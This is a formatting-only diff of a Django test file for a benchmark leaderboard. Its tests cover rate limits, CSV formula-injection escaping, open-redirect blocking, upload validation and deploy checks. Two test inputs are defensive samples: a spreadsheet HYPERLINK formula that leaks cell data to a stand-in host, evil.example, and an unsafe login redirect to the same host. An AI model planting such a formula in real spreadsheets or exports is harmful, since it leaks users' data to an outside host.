@@ -29,7 +29,9 @@ def submit_url(problem_set):
     return reverse("problem-submit", args=[problem_set.problems.get(level=1, number=1).pk])
 
 
-def test_the_submission_form_shares_the_api_write_limit(client, token_client, ingestor, submit_url, hardware, model, settings):
+def test_the_submission_form_shares_the_api_write_limit(
+    client, token_client, ingestor, submit_url, hardware, model, settings
+):
     settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {"writes": "3/min"}}
     api = token_client(ingestor)
     assert [api.post("/api/v1/reported-scores/", [], format="json").status_code for _ in range(2)] == [400, 400]
@@ -76,7 +78,10 @@ def test_the_permission_or_superuser_passes_the_guard(db):
 @pytest.mark.parametrize(
     ("cell", "safe"),
     [
-        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
+        (
+            '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        ),
         ("+1+1", "'+1+1"),
         ("-2+3", "'-2+3"),
         ("@SUM(A1)", "'@SUM(A1)"),
@@ -104,8 +109,8 @@ def test_the_level_csv_export_neutralises_a_formula_model_name(client, run):
 def test_an_unsafe_next_after_sign_in_lands_on_the_home_page(client, db):
     User.objects.create_superuser("admin2", password="a-long-password-9")
     response = client.post(
-        "/admin/login/?next=http://evil.example/", {"username": "admin2", "password": "a-long-password-9",
-                                                     "next": "http://evil.example/"}
+        "/admin/login/?next=http://evil.example/",
+        {"username": "admin2", "password": "a-long-password-9", "next": "http://evil.example/"},
     )
     assert response.status_code == 302 and response["Location"] == django_settings.LOGIN_REDIRECT_URL == "/"
 
@@ -115,26 +120,45 @@ def test_the_cache_is_redis_when_redis_url_is_set(redis_url, backend):
     env = {k: v for k, v in os.environ.items() if k != "REDIS_URL"}
     if redis_url:
         env["REDIS_URL"] = redis_url
-    code = "import django; django.setup(); from django.conf import settings; print(settings.CACHES['default']['BACKEND'])"
-    result = subprocess.run([sys.executable, "-c", code], env={**env, "DJANGO_SETTINGS_MODULE": "config.settings"},
-                            cwd=django_settings.BASE_DIR, capture_output=True, text=True, timeout=60)
+    code = (
+        "import django; django.setup(); from django.conf import settings; print(settings.CACHES['default']['BACKEND'])"
+    )
+    result = subprocess.run(
+        [sys.executable, "-c", code],
+        env={**env, "DJANGO_SETTINGS_MODULE": "config.settings"},
+        cwd=django_settings.BASE_DIR,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert result.stdout.strip().endswith(backend), result.stderr
 
 
 @pytest.mark.parametrize(
     ("results", "message"),
     [
-        ({"1": [{"compiled": True, "correctness": True, "runtime": -3.5}]}, "problem 1 result 0: runtime -3.5 ms is not positive"),
-        ({"1": [{"compiled": True, "correctness": True, "runtime": 0}]}, "problem 1 result 0: runtime 0 ms is not positive"),
+        (
+            {"1": [{"compiled": True, "correctness": True, "runtime": -3.5}]},
+            "problem 1 result 0: runtime -3.5 ms is not positive",
+        ),
+        (
+            {"1": [{"compiled": True, "correctness": True, "runtime": 0}]},
+            "problem 1 result 0: runtime 0 ms is not positive",
+        ),
         ({"1": [{"compiled": True, "correctness": False, "runtime": -7}]}, "runtime -7 ms is not positive"),
         ({"1": [{"compiled": True, "correctness": True, "runtime": 1e999}]}, "Infinity is not allowed"),
-        ({"1": [{"compiled": True, "correctness": True, "runtime": 1, "runtime_stats": {"mean": -1}}]}, "runtime_stats 'mean'"),
+        (
+            {"1": [{"compiled": True, "correctness": True, "runtime": 1, "runtime_stats": {"mean": -1}}]},
+            "runtime_stats 'mean'",
+        ),
         ({"²": []}, "key '²' is not a problem id"),
         ({"9" * 5000: []}, "out of range"),
         ({"1": [{"sample_id": 2**31}]}, "sample_id 2147483648 is out of range (0-2147483647)"),
     ],
 )
-def test_import_results_out_of_range_or_not_positive_are_refused(token_client, ingestor, problem_set, hardware, results, message):
+def test_import_results_out_of_range_or_not_positive_are_refused(
+    token_client, ingestor, problem_set, hardware, results, message
+):
     files = {"level_1_problem_1_sample_0_kernel.py": KERNEL, "eval_results.json": json.dumps(results)}
     response = upload(token_client(ingestor), make_zip(files))
     assert response.status_code == 400 and any(message in error for error in response.json()["errors"]), response.json()
@@ -167,21 +191,30 @@ def test_kernel_file_numbers_out_of_range_are_refused(token_client, ingestor, pr
     [
         ("x" * 200_000 + ",model\n", "line 1: a cell is longer than 10000 characters"),
         ("model,organization,variant,metric,value,unit,setting,hardware,date,source_url\n", "no rows below the header"),
-        ("model,variant,metric,value,unit,date,source_url,notes\nM,V,fast_1,4,%,2025-01-01,https://e.com,hi\n",
-         "unknown column(s) &#x27;notes&#x27;"),  # HTML-escaped in the admin page
+        (
+            "model,variant,metric,value,unit,date,source_url,notes\nM,V,fast_1,4,%,2025-01-01,https://e.com,hi\n",
+            "unknown column(s) &#x27;notes&#x27;",
+        ),  # HTML-escaped in the admin page
     ],
 )
 def test_the_admin_upload_uses_the_same_csv_rules(admin_client, body, message):
     from django.core.files.uploadedfile import SimpleUploadedFile
 
-    response = admin_client.post("/admin/leaderboard/reportedscore/upload-csv/",
-                                 {"file": SimpleUploadedFile("s.csv", body.encode())})
+    response = admin_client.post(
+        "/admin/leaderboard/reportedscore/upload-csv/", {"file": SimpleUploadedFile("s.csv", body.encode())}
+    )
     assert response.status_code == 400 and message in response.content.decode()
 
 
 def test_deploy_check_warns_when_the_write_limit_would_be_per_process():
     env = {k: v for k, v in os.environ.items() if k not in ("REDIS_URL", "CONTENT_SECURITY_POLICY")}
     env.update({"DJANGO_SETTINGS_MODULE": "config.settings_production", "SECRET_KEY": "x" * 60 + "-Z9q!"})
-    result = subprocess.run([sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
-                            cwd=django_settings.BASE_DIR, env=env, capture_output=True, text=True, timeout=120)
+    result = subprocess.run(
+        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
+        cwd=django_settings.BASE_DIR,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode != 0 and "kb.W010" in result.stderr and "kb.W011" not in result.stderr
